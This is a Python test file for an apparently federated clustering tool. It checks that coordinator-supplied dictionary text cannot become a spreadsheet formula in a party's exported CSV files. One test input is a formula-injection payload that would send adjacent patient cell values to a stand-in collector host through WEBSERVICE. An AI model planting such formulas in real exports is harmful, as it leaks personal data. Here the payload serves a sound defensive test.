"""Formulas of the coordinator's dictionary in the CSV files of a party."""

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from support.terminal import Terminal

from clustering_protocols.protocols.llf import LosslessFederated
from clustering_protocols.terms.preparation import Preparation
from clustering_protocols.terms.schema import Constraints, Field, Level, Schema
from clustering_protocols.terms.sections import Release
from clustering_protocols.terms.terms import Layout
from tests.protocols.attacks.honest_sessions import completed, house_in, play

TEXTS = {
    "label of a level": '=WEBSERVICE("https://collector.example/?"&A2&"&"&B2)',
    "title": "=1+1",
    "unit": "@SUM(1)",
}
"""What the coordinator writes; none of it may begin a cell beside a party's rows."""


def test_texts_of_others_begin_no_cell_as_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rng = np.random.default_rng(0)
    tables = [
        pd.DataFrame(
            {
                "patient": [f"P{number}-{row}" for row in range(20)],
                "age": rng.integers(20, 90, 20),
                "sex": rng.choice(["m", "f"], 20),
            }
        )
        for number in range(3)
    ]
    bounds = Constraints(minimum=0, maximum=120)
    levels = (
        Level(value="m", label=TEXTS["label of a level"]),
        Level(value="f", label="female"),
    )
    dictionary = Schema(
        fields=(
            Field(
                name="age",
                type="integer",
                title=TEXTS["title"],
                unit=TEXTS["unit"],
                constraints=bounds,
            ),
            Field(name="sex", type="string", categories=levels),
        )
    )
    with house_in(tmp_path) as house:
        completed(
            play(
                house,
                "wards",
                LosslessFederated(n_clusters=2),
                Layout.lattice(3),
                tables,
                ids="patient",
                dictionary=[dictionary],
                preparation=[Preparation()],
                release=Release(profiles="everybody"),
            )
        )
        own = tmp_path / "own.csv"
        tables[1].to_csv(own, index=False)
        terminal = Terminal(monkeypatch, tmp_path)
        terminal.environment["COTERIE_HOME"] = str(house.home_of("r2c1"))
        out = tmp_path / "exports"
        out.mkdir()
        words = ["--data", own, "--id-column", "patient", "--out", out / "rows.csv"]
        said = terminal("party", "report", "wards", "r2c1", *words).output

    cells = set()
    for path in out.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells |= {cell for line in csv.reader(file) for cell in line}
    assert "female" in cells
    assert not cells & set(TEXTS.values()) or "formula" in said
